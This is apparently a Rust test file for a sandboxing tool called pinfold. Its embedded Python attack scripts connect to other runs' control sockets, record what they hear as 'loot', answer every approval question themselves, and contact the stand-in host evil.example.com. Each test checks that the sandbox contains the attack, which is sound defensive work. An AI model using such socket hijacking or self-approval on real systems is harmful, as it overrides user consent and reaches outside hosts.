//! The control sockets of runs: whoever answers their questions decides what they reach.

use std::path::Path;

use pinfold_tests::{Attack, Scene, WORLD, WORLD_NEEDS, eventually, pinfold, skip};

/// Talks to every control socket that there is: takes what it hears home, and says yes to every question.
const TALK: &str = r#"
import glob, json
def sockets():
    return glob.glob(E["CONTROL"] + "/*")

def talk(path, wait=10):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    s.settimeout(wait)
    s.connect(path)
    introduction = s.recv(65536)
    loot(introduction)
    version = json.loads(introduction)["session"]["version"]
    for question in range(1, 9):
        word = {"answer": {"question": question, "answer": "session"}}
        attempt(s.send, json.dumps({"version": version, "word": word}).encode())
    return s
"#;

const CONTROL: &str = "home/.local/state/pinfold/control";

fn finds_control(scene: &Scene) {
    scene.set("CONTROL", scene.path(CONTROL));
    scene.set("AROUND", scene.path("home/.local"));
    scene.set("PINFOLD", pinfold());
}

/// A run of the user's that goes on beside the attack.
fn another_run(scene: &Scene) {
    let program = "
import subprocess
run = subprocess.Popen([E['PINFOLD'], 'run', '--', 'sleep', '60'], cwd=E['OTHER'])
print('ready', flush=True)
run.wait()
";
    scene.companion(program);
    let sockets = || std::fs::read_dir(scene.path(CONTROL)).map_or(0, Iterator::count);
    assert!(eventually(|| sockets() > 0), "the other run has a control socket");
}

fn heard(scene: &Scene) -> Option<String> {
    let loot = std::fs::read_to_string(scene.path("home/project/loot")).unwrap_or_default();
    (!loot.is_empty()).then(|| format!("it was told {loot}"))
}

#[test]
fn another_run_is_watched_and_answered() {
    Attack::python(format!("{TALK}\nfor path in sockets(): attempt(talk, path)"))
        .before(finds_control)
        .before(another_run)
        .harm(heard)
        .is_contained();
}

#[test]
fn another_run_is_watched_by_one_that_may_read_where_its_socket_is() {
    // A read-only mount does not stop a connection, and the sockets of later runs appear in it.
    Attack::python(format!("{TALK}\nfor path in sockets(): attempt(talk, path)"))
        .before(finds_control)
        .before(another_run)
        .flags("--read $AROUND")
        .harm(heard)
        .is_contained();
}

/// Wants to reach a host and answers for the user.
fn answers_itself(flags: &str) {
    if let Some(missing) = WORLD_NEEDS.iter().find(|program| !is_there(program)) {
        return skip(&format!("there is no {missing} here"));
    }
    let program = format!(
        "{TALK}
def answer():
    for round in range(20):
        for path in sockets(): attempt(talk, path)
        time.sleep(0.2)
threading.Thread(target=answer, daemon=True).start()
s = socket.create_connection(('evil.example.com', 80), timeout=5)
s.sendall(b'GET / HTTP/1.1\\r\\nHost: evil.example.com\\r\\nConnection: close\\r\\n\\r\\n')
s.recv(4096)
"
    );
    Attack::python(program)
        .before(finds_control)
        .before(|scene| {
            scene.directory(CONTROL);
            WORLD.iter().for_each(|(file, text)| scene.write(Path::new("elsewhere/world").join(file), text));
            scene.set("WORLD", scene.path("elsewhere/world"));
            scene.set("FROM", scene.path("home/project"));
        })
        .launcher(r#"exec bash "$WORLD/enter.sh" "$@""#)
        .flags(flags)
        .harm(|scene| {
            let log = scene.read("elsewhere/world/log");
            log.lines().find(|line| line.contains(" evil ")).map(|line| format!("somebody was reached: {line}"))
        })
        .is_contained();
}

#[test]
fn a_run_answers_its_own_question() {
    answers_itself("--ask");
}

#[test]
fn a_run_that_may_read_where_its_socket_is_answers_its_own_question() {
    answers_itself("--ask --read $AROUND");
}

fn is_there(program: &str) -> bool {
    ["/usr/bin", "/usr/sbin", "/bin", "/sbin"].iter().any(|directory| Path::new(directory).join(program).exists())
}
